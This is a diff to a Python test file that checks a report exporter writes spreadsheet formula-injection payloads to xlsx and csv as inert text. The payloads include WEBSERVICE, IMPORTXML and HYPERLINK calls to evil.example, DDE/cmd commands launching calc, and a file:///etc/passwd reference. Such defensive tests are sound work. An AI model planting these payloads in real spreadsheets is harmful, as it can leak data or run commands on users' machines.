@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import io
 from dataclasses import replace
 from pathlib import Path
@@ -15,6 +16,8 @@ from mma_desktop.errors import InputError
 from mma_desktop.reports.batches import BATCH_ENDINGS, BatchReport, BatchResult, batch_bytes, option_text, summary_text
 from mma_desktop.reports.letterhead.base import Letterhead
 from mma_desktop.reports.templates import load_labels
+from mma_desktop.reports.text import visible
+from tests.reports.sample import TEXTS
 from tests.reports.test_pdf import joined
 from tests.reports.test_templates import shape
 
@@ -53,6 +56,57 @@ def test_a_workbook_holds_texts_and_no_formula(language: str) -> None:
     assert sheet["A2"].data_type == "s"
     assert [row[4] for row in rows[1:]] == ["75%"] * 3
     assert [row[6] for row in rows[1:]] == [load_labels("batch", language)["right"], "50%", None]
+
+
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://evil.example/","x")',
+    '=WEBSERVICE("http://evil.example/")',
+    '=IMPORTXML("http://evil.example/","//a")',
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    "=msexcel|'\\..\\..\\windows\\system32\\cmd.exe'!''",
+    "='file:///etc/passwd'#$passwd.A1",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "=",
+    "{=1+1}",
+)
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=map(repr, FORMULAS))
+def test_24_a_formula_stays_a_text(text: str) -> None:
+    entry = replace(REPORT.results[0].entry, name=text, gold=text, question=Question("lqa", "zh", text))
+    report = replace(REPORT, name=text, results=(replace(REPORT.results[0], shown=text, option=text, entry=entry),))
+    [sheet] = openpyxl.load_workbook(io.BytesIO(batch_bytes(report, Path("a.xlsx"), "zh"))).worksheets
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert cells[0].value == visible(text)
+    table = list(csv.reader(io.StringIO(batch_bytes(report, Path("a.csv"), "zh").decode("utf-8-sig"))))
+    assert table[1][0].lstrip("'") == visible(text)
+    assert not [cell for row in table for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize("ending", [".xlsx", ".csv"])
+def test_23_a_megabyte_of_text_can_be_written(ending: str) -> None:
+    report = replace(REPORT, results=(replace(REPORT.results[0], shown="案" * 350_000),))
+    assert batch_bytes(report, Path(f"a{ending}"), "zh")
+
+
+@pytest.mark.parametrize("ending", BATCH_ENDINGS)
+@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
+def test_23_any_text_can_be_written(text: str, ending: str) -> None:
+    entry = replace(REPORT.results[0].entry, name=text, gold=text, question=Question("lqa", "zh", text))
+    report = replace(REPORT, name=text, results=(replace(REPORT.results[0], shown=text, option=text, entry=entry),))
+    assert batch_bytes(report, Path(f"a{ending}"), "zh")
 
 
 @pytest.mark.parametrize("language", ["zh", "en"])
